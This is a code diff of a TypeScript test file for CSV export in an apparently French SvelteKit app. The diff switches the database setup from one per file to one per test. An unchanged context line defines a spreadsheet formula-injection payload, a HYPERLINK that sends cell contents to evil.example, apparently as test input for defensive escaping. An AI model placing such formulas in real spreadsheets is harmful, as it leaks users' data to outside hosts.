@@ -1,5 +1,5 @@
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeEach, describe, expect, it } from 'vitest';
 import { hashPassword } from '$lib/server/auth/password';
 import { findUserById, insertUser, type User } from '$lib/server/auth/users';
 import { changeSittingState, recordDecision } from '$lib/server/commission/service';
@@ -7,7 +7,8 @@ import { heldSitting } from '$lib/server/commission/testing';
 import { spreadsheetLines } from '$lib/server/csv-testing';
 import { tableToCsv } from '$lib/server/dashboard/tables';
 import type { Db } from '$lib/server/db';
-import { closeDatabase, initDatabase } from '$lib/server/db/instance';
+import { closeDatabase } from '$lib/server/db/instance';
+import { createTestInstance } from '$lib/server/db/testing';
 import { OpenDataSet } from '$lib/server/opendata/resources';
 import { GET as releve } from './commission/seances/[id=id]/releve.csv/+server';
 
@@ -17,8 +18,8 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
 let db: Db;
 let admin: User;
 
-beforeAll(async () => {
-	db = await initDatabase(':memory:');
+beforeEach(async () => {
+	db = await createTestInstance();
 	admin = (await findUserById(
 		db,
 		await insertUser(db, {
@@ -30,7 +31,7 @@ beforeAll(async () => {
 		})
 	))!;
 });
-// The process's one database is this file's own: closed, the next file opens its own.
+// Each test's database is the process's one in turn: closed after the last, the next file opens its own.
 afterAll(closeDatabase);
 
 const cells = (csv: string) => parse(csv, { relax_column_count: true }).flat() as string[];
